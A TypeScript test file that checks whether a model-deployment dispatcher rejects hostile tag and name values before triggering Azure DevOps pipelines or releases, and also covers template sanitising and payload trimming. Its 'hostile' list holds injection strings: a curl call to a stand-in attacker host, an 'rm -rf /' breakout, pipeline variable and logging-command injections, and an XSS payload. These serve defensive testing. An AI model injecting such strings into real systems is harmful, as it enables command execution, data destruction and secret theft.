import test, { type ExecutionContext } from 'ava'
import fc from 'fast-check'
import { templateField } from '../../../../core/config/orderTemplate.ts'
import { DispatchError } from '../../../../core/trigger/destination.ts'
import { fillTemplate } from '../../../../core/trigger/destinations/fillTemplate.ts'
import { orderPayload } from '../../../../core/trigger/destinations/orderPayload.ts'
import { FakeAzureDevOps } from '../../../fakes/azureDevOps/fakeAzureDevOps.ts'
import { destination, failureOf, orderFor, signal } from './orders.ts'

const project = 'Models'

async function azureDevOps(t: ExecutionContext): Promise<FakeAzureDevOps> {
  const fake = new FakeAzureDevOps({
    project,
    tokens: ['pat'],
    pipelines: { 12: ['modelName', 'modelVersion', 'team'] },
    definitions: { 3: { artifact: '_model', stages: [] } },
  })
  await fake.server.start()
  t.teardown(() => fake.server.close())
  return fake
}

const place = (fake: FakeAzureDevOps) => ({
  ...{ organization: fake.url, project, token: { fromEnvironment: 'PAT' }, allowPrivateAddresses: true },
})

const hostile = [
  '$(curl attacker.example)',
  '`id`',
  '"; rm -rf / #',
  "' || true",
  ['$', '{{ variables.secret }}'].join(''),
  '$[variables.secret]',
  '##vso[task.setvariable variable=x]y',
  'first\nsecond: injected',
  '\u202Eexe.cod',
  '<img src=x onerror=alert(1)>',
  '%0A::add-mask::x',
  'x'.repeat(300),
]

test('a tag that a careless script would run is not passed to a pipeline', async (t) => {
  const fake = await azureDevOps(t)
  const parameters = { modelName: '{model.name}', modelVersion: '{model.version}', team: '{model.tags.team}' }
  const ship = destination(t, { kind: 'azure-pipeline', pipeline: 12, parameters, ...place(fake) }, { PAT: 'pat' })
  for (const team of hostile) {
    const failure = await failureOf(t, ship.start(orderFor('7', { tags: { team } }), signal))
    t.like(failure, { certain: true, permanent: true })
    t.false(failure.message.includes(team), 'the text itself is not repeated')
  }
  t.is(fake.builds.length, 0)
  await ship.start(orderFor('7', { tags: { team: 'risk & fraud'.replace('&', 'and') } }), signal)
  await ship.start(orderFor('8', { tags: {} }), signal)
  t.deepEqual(
    fake.builds.map(({ templateParameters }) => templateParameters.team),
    ['risk and fraud', ''],
  )
})

test('names that Azure ML would not take start nothing anywhere', async (t) => {
  const fake = await azureDevOps(t)
  const release = { kind: 'azure-release', definition: 3, artifact: '_model', ...place(fake) }
  const ship = destination(t, release, { PAT: 'pat' })
  const orders = hostile.flatMap((text) => [
    orderFor('7', { name: text }),
    orderFor(text),
    orderFor('7', { id: `/${text} ` }),
    orderFor('7', {}, { idempotencyKey: text }),
    orderFor('7', {}, { workspaceId: `/subscriptions/${text}` }),
    orderFor('7', {}, { registeredAt: text }),
  ])
  for (const order of orders) {
    t.like(await failureOf(t, ship.start(order, signal)), { certain: true, permanent: true })
    t.like(await failureOf(t, ship.find(order, signal)), { certain: true, permanent: true })
  }
  t.is(fake.server.exchanges.length, 0)
})

test('whatever a tag holds, a filled template holds letters, digits and a few signs', (t) => {
  const template = templateField.parse('team {model.tags.team} of {model.properties.team}')
  const harmless = /^[A-Za-z0-9 _.,:@/+=-]*$/
  const texts = fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' }), fc.stringMatching(/^[a-z ]*$/))
  fc.assert(
    fc.property(texts, texts, (tag, property) => {
      const order = orderFor('7', { tags: { team: tag }, properties: { team: property } })
      if (harmless.test(tag) && harmless.test(property) && tag.length <= 256 && property.length <= 256)
        t.is(fillTemplate(template, order), `team ${tag} of ${property}`)
      else t.throws(() => fillTemplate(template, order), { instanceOf: DispatchError })
    }),
  )
})

test('tags with the names of built-in members are no tags', (t) => {
  const template = templateField.parse('{model.tags.constructor}{model.tags.__proto__}{model.tags.toString}')
  t.is(fillTemplate(template, orderFor('7', { tags: {} })), '')
})

test('a payload that is too long leaves out properties, then tags, and says so', (t) => {
  const long = { big: 'x'.repeat(70_000) }
  t.is(orderPayload(orderFor('7')).data.leftOut, undefined)
  t.deepEqual(orderPayload(orderFor('7', { properties: long })).data.leftOut, ['modelProperties'])
  const smallest = orderPayload(orderFor('7', { tags: long, properties: long }))
  t.deepEqual(smallest.data.leftOut, ['modelTags', 'modelProperties'])
  t.true(JSON.stringify(smallest).length < 2000)
})
